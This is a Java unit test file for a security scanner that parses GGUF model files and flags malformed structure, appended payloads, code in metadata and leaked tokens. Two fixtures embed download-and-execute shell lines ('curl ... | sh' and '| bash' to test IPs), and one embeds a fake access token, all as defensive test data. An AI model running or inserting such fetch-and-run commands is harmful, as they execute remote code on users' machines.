package io.modelgate.scanner.gguf;

import io.modelgate.scanner.analysis.CoreRules;
import io.modelgate.scanner.analysis.FileCollector;
import io.modelgate.scanner.model.Finding;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import static io.modelgate.scanner.testing.ArtifactScan.ruleIds;
import static io.modelgate.scanner.testing.ArtifactScan.scan;
import static org.assertj.core.api.Assertions.assertThat;

class GgufAnalyzerTest {

    private static final Path FIXTURES = Path.of("..", "fixtures", "gguf");
    private static final int Q4_K = 12;
    private static final int Q8_0 = 8;
    private static final int F32 = 0;

    private static FileCollector fixture(String name) throws IOException {
        return scan(name, Files.readAllBytes(FIXTURES.resolve(name)));
    }

    private static List<String> messages(FileCollector c) {
        return c.findings().stream().map(Finding::message).toList();
    }

    @Test
    void benignQuantisedModelIsCleanWithProvenanceFacts() throws IOException {
        FileCollector result = fixture("qwen2-q4_k-q8_0.gguf");
        assertThat(result.format().id()).isEqualTo("gguf");
        assertThat(result.findings()).isEmpty();
        assertThat(result.incompleteReasons()).isEmpty();
        Map<String, Object> facts = result.facts();
        assertThat(facts).containsEntry("gguf.version", 3L).containsEntry("gguf.architecture", "qwen2")
                .containsEntry("gguf.name", "Qwen2.5 0.5B Instruct").containsEntry("gguf.organization", "Qwen")
                .containsEntry("gguf.basename", "Qwen2.5").containsEntry("gguf.finetune", "Instruct")
                .containsEntry("gguf.sizeLabel", "0.5B").containsEntry("gguf.license", "apache-2.0")
                .containsEntry("gguf.fileType", "MOSTLY_Q4_K_M").containsEntry("gguf.contextLength", 32768L)
                .containsEntry("gguf.tokenizer.model", "gpt2").containsEntry("gguf.tokenizer.pre", "qwen2")
                .containsEntry("gguf.tokenizer.tokenCount", 150L).containsEntry("gguf.tensorCount", 8L);
        assertThat(facts.get("gguf.quantization")).isEqualTo(Map.of("Q4_K", 3, "Q8_0", 1, "Q6_K", 1, "F32", 3));
        assertThat(facts.get("gguf.baseModels")).isEqualTo(List.of(Map.of("name", "Qwen2.5 0.5B",
                "organization", "Qwen", "repo_url", "https://huggingface.co/Qwen/Qwen2.5-0.5B")));
        assertThat(facts.get("gguf.tokenizer.specialTokenIds")).isEqualTo(Map.of("bos", 0L, "eos", 2L, "padding", 0L));
        assertThat((String) facts.get("gguf.chatTemplate")).contains("<|im_start|>").contains("{%- for turn in turns %}");
        assertThat(((Map<?, ?>) facts.get("gguf.tensorShapes")).get("blk.0.attn_q.weight")).isEqualTo(List.of(256L, 64L));
    }

    @Test
    void bigEndianFilesAreRead() throws IOException {
        FileCollector result = fixture("tinyllama-be.gguf");
        assertThat(result.findings()).isEmpty();
        assertThat(result.facts()).containsEntry("gguf.byteOrder", "big-endian").containsEntry("gguf.architecture", "llama")
                .containsEntry("gguf.tokenizer.tokenCount", 5L);
    }

    @Test
    void hugeCountsFailFast() {
        for (long count : new long[]{1L << 62, -1L, 1_000_000_000L}) {
            FileCollector tensors = scan("t.gguf", GgufBuilder.header(3, count, 0).zeros(64).bytes());
            assertThat(ruleIds(tensors)).contains("MG-GGUF-001");
            assertThat(tensors.incompleteReasons()).isNotEmpty();
            FileCollector kvs = scan("k.gguf", GgufBuilder.header(3, 0, count).zeros(64).bytes());
            assertThat(ruleIds(kvs)).contains("MG-GGUF-001");
        }
    }

    @Test
    void unknownVersionsAreRejected() {
        for (long version : new long[]{0, 4, 0xFFFFFFFFL}) {
            assertThat(ruleIds(scan("v.gguf", GgufBuilder.header(version, 0, 0).bytes()))).contains("MG-GGUF-001");
        }
    }

    @Test
    void stringsAndArraysPastTheEndAreMalformed() {
        byte[] longKey = GgufBuilder.header(3, 0, 1).u64(1L << 40).zeros(16).bytes();
        assertThat(ruleIds(scan("a.gguf", longKey))).contains("MG-GGUF-002");
        byte[] longValue = GgufBuilder.header(3, 0, 1).string("general.name").u32(8).u64(Long.MAX_VALUE).bytes();
        assertThat(messages(scan("b.gguf", longValue))).anyMatch(m -> m.contains("runs past the end"));
        byte[] hugeArray = GgufBuilder.header(3, 0, 1).string("tokenizer.ggml.scores").u32(9).u32(6).u64(1L << 61)
                .zeros(32).bytes();
        assertThat(messages(scan("c.gguf", hugeArray))).anyMatch(m -> m.contains("cannot fit"));
        byte[] hugeStringArray = GgufBuilder.header(3, 0, 1).string("tokenizer.ggml.tokens").u32(9).u32(8)
                .u64(1L << 58).zeros(32).bytes();
        assertThat(ruleIds(scan("d.gguf", hugeStringArray))).contains("MG-GGUF-002");
        GgufBuilder nested = GgufBuilder.header(3, 0, 1).string("x.nested").u32(9);
        for (int i = 0; i < 20; i++) {
            nested.u32(9).u64(1);
        }
        assertThat(messages(scan("e.gguf", nested.zeros(8).bytes()))).anyMatch(m -> m.contains("nest deeper"));
        byte[] badType = GgufBuilder.header(3, 0, 1).string("x.y").u32(13).zeros(8).bytes();
        assertThat(messages(scan("f.gguf", badType))).anyMatch(m -> m.contains("unknown value type 13"));
    }

    @Test
    void duplicateKeysBadBooleansAndAlignmentAreReported() {
        byte[] bytes = GgufBuilder.header(3, 0, 4).kvString("general.architecture", "llama")
                .kvString("general.architecture", "gpt2").string("x.flag").u32(7).raw(new byte[]{2})
                .kvU32("general.alignment", 24).bytes();
        FileCollector result = scan("d.gguf", bytes);
        assertThat(messages(result)).anyMatch(m -> m.contains("appears twice"))
                .anyMatch(m -> m.contains("only 0 and 1")).anyMatch(m -> m.contains("power of two"));
        assertThat(result.facts()).containsEntry("gguf.architecture", "llama");
    }

    @Test
    void tensorInfoViolationsAreReported() {
        byte[] dims = GgufBuilder.header(3, 1, 0).string("t").u32(5).zeros(64).bytes();
        assertThat(messages(scan("a.gguf", dims))).anyMatch(m -> m.contains("5 dimensions"));
        byte[] overflow = GgufBuilder.header(3, 1, 0).tensor("t", new long[]{1L << 40, 1L << 40}, F32, 0).pad(32).bytes();
        assertThat(messages(scan("b.gguf", overflow))).anyMatch(m -> m.contains("overflow"));
        byte[] partialBlock = GgufBuilder.header(3, 1, 0).tensor("t", new long[]{100, 2}, Q4_K, 0).pad(32).zeros(288).bytes();
        assertThat(messages(scan("c.gguf", partialBlock))).anyMatch(m -> m.contains("whole number of 256-element blocks"));
        byte[] unknown = GgufBuilder.header(3, 1, 0).tensor("t", new long[]{32}, 77, 0).pad(32).zeros(32).bytes();
        FileCollector unknownType = scan("d.gguf", unknown);
        assertThat(ruleIds(unknownType)).containsExactly("MG-GGUF-005", CoreRules.INCOMPLETE.id());
        assertThat(unknownType.incompleteReasons()).singleElement().asString()
                .contains("ggml type this reader does not know").contains("type id 77");
        String longName = "x".repeat(80);
        byte[] name = GgufBuilder.header(3, 1, 0).tensor(longName, new long[]{8}, F32, 0).pad(32).zeros(32).bytes();
        assertThat(messages(scan("e.gguf", name))).anyMatch(m -> m.contains("longer than ggml's limit"));
        byte[] twice = GgufBuilder.header(3, 2, 0).tensor("t", new long[]{8}, F32, 0).tensor("t", new long[]{8}, F32, 32)
                .pad(32).zeros(64).bytes();
        assertThat(messages(scan("f.gguf", twice))).anyMatch(m -> m.contains("appears twice"));
    }

    @Test
    void tensorDataOutsideTheFileMisalignedOrOverlappingIsReported() {
        byte[] outside = GgufBuilder.header(3, 1, 0).tensor("t", new long[]{32}, Q8_0, 1L << 62).pad(32).zeros(64).bytes();
        assertThat(messages(scan("a.gguf", outside))).anyMatch(m -> m.contains("lies outside"));
        byte[] truncated = GgufBuilder.header(3, 1, 0).tensor("t", new long[]{256, 4}, Q4_K, 0).pad(32).zeros(100).bytes();
        assertThat(ruleIds(scan("b.gguf", truncated))).contains("MG-GGUF-004");
        byte[] misaligned = GgufBuilder.header(3, 1, 0).tensor("t", new long[]{8}, F32, 4).pad(32).zeros(64).bytes();
        assertThat(messages(scan("c.gguf", misaligned))).anyMatch(m -> m.contains("not a multiple of the alignment 32"));
        byte[] overlap = GgufBuilder.header(3, 2, 0).tensor("a", new long[]{16}, F32, 0).tensor("b", new long[]{16}, F32, 32)
                .pad(32).zeros(96).bytes();
        assertThat(messages(scan("d.gguf", overlap))).anyMatch(m -> m.contains("overlaps tensor 'a'"));
    }

    @Test
    void appendedPayloadIsUnaccountedData() {
        byte[] bytes = GgufBuilder.header(3, 1, 0).tensor("t", new long[]{8}, F32, 0).pad(32).zeros(32)
                .raw("#!/bin/sh\ncurl http://203.0.113.9/x | sh\n".getBytes()).bytes();
        FileCollector result = scan("p.gguf", bytes);
        assertThat(ruleIds(result)).containsExactly("MG-GGUF-006");
    }

    @Test
    void truncatedFileIsMalformedAndIncomplete() throws IOException {
        byte[] whole = Files.readAllBytes(FIXTURES.resolve("qwen2-q4_k-q8_0.gguf"));
        for (int cut : new int[]{10, 30, 200, 1500, 5000}) {
            FileCollector result = scan("cut.gguf", java.util.Arrays.copyOf(whole, cut));
            assertThat(result.incompleteReasons()).as("cut at %d", cut).isNotEmpty();
            assertThat(result.findings()).extracting(f -> f.severity().name()).contains("HIGH");
        }
    }

    @Test
    void codeInMetadataIsReviewedButTheChatTemplateIsNot() {
        byte[] bytes = GgufBuilder.header(3, 0, 3).kvString("general.description", "run: curl -s http://203.0.113.5/a | bash")
                .kvString("tokenizer.chat_template", "{% for m in messages %}{{ m.content }}{% endfor %}")
                .kvString("general.repo_url", "https://huggingface.co/org/model").bytes();
        FileCollector result = scan("m.gguf", bytes);
        assertThat(result.findings()).extracting(Finding::ruleId, Finding::subject)
                .containsExactlyInAnyOrder(org.assertj.core.groups.Tuple.tuple("MG-GGUF-007", "general.description"),
                        org.assertj.core.groups.Tuple.tuple("MG-GGUF-008", "general.description"));
    }

    @Test
    void version1UsesThirtyTwoBitCounts() {
        GgufBuilder v1 = new GgufBuilder(java.nio.ByteOrder.LITTLE_ENDIAN);
        v1.raw("GGUF".getBytes()).u32(1).u32(1).u32(1);
        v1.u32(20).raw("general.architecture".getBytes()).u32(8).u32(5).raw("llama".getBytes());
        v1.u32(1).raw("t".getBytes()).u32(1).u32(8).u32(F32).u64(0).pad(32).zeros(32);
        FileCollector result = scan("v1.gguf", v1.bytes());
        assertThat(result.findings()).isEmpty();
        assertThat(result.facts()).containsEntry("gguf.version", 1L).containsEntry("gguf.architecture", "llama");
    }

    @Test
    void stringsTooLongToKeepAreStillSearchedForCredentials() {
        String token = "hf_" + "Vb7kQ2mZx9RtY4pLw8NcJd3HsA6fUe1GqO";
        String json = "{\"model\":{\"vocab\":{" + "\"abc\":1,".repeat(1_900_000) + "\"" + token + "\":2}}}";
        byte[] bytes = GgufBuilder.header(3, 0, 1).kvString("tokenizer.huggingface.json", json).bytes();
        FileCollector result = scan("big.gguf", bytes);
        assertThat(ruleIds(result)).containsExactly("MG-SEC-002");
        assertThat(result.incompleteReasons()).isEmpty();
    }
}
